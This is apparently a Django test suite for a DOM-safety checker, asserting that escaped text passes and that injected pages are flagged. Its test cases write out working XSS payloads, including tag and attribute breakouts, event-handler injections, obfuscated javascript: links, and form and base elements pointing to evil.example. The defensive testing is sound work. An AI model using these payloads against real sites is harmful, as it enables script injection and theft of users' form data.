"""The DOM-safety check catches what it must, so that a clean corpus run means something."""

from django.test import SimpleTestCase

from tests.security.dom import shape_of, unsafe_parts, url_scheme
from tests.security.helpers import Findings

PAGE = """<!doctype html><html><head><title>{title}</title>
<script src="/static/site.js" nonce="abc"></script></head>
<body><main><p class="comment">{text}</p><a href="{href}">site</a>
<form method="post"><input name="name" value="{value}"><textarea name="text">{text}</textarea>
</form></main><footer>Footer</footer></body></html>"""


def page(title="Post", text="Hello", href="/posts/", value="Sasha"):
    return PAGE.format(title=title, text=text, href=href, value=value)


class DomCheckTests(SimpleTestCase):
    def setUp(self):
        self.baseline = shape_of(page())

    def test_a_harmless_page_is_safe(self):
        escaped = "&lt;script&gt;alert(1)&lt;/script&gt; &quot;&gt;&lt;svg onload=x&gt;"
        self.assertEqual(unsafe_parts(page(text=escaped, value=escaped), self.baseline), [])

    def test_unsafe_pages_are_caught(self):
        cases = {
            "script in text": page(text="<script>alert(1)</script>"),
            "title breakout": page(title="</title><script>alert(1)</script>"),
            "textarea breakout": page(text="</textarea><img src=x onerror=alert(1)>"),
            "attribute breakout": page(value='"><svg onload=alert(1)>'),
            "unquoted handler": page(value='x" onfocus="alert(1)'),
            "javascript link": page(href="java&#x09;script:alert(1)"),
            "data link": page(href=" DATA:text/html,x"),
            "comment swallows the page": page(text="<!--"),
            "a second form": page(text="<form action=//evil.example><input name=q></form>"),
            "base element": page(text="<base href=//evil.example/>"),
            "style attribute": page(text='<b style="x:expression(alert(1))">b</b>'),
        }
        for case, content in cases.items():
            with self.subTest(case=case):
                self.assertTrue(unsafe_parts(content, self.baseline), case)

    def test_schemes_are_read_as_a_browser_reads_them(self):
        for url in (
            "javascript:x",
            " JAVASCRIPT:x",
            "\x01javascript:x",
            "java\tscript:x",
            "java\nscript:x",
        ):
            self.assertEqual(url_scheme(url), "javascript", repr(url))
        self.assertEqual(url_scheme("/javascript:x"), "")

    def test_findings_wait_for_the_parsing_process(self):
        findings = Findings()
        findings.page("case", "payload", page(text="<script>x</script>"), self.baseline)
        findings.page("case", "payload", page(), self.baseline)
        self.assertEqual(len(findings.items), 1)
        self.assertIn("<script>", findings.items[0])
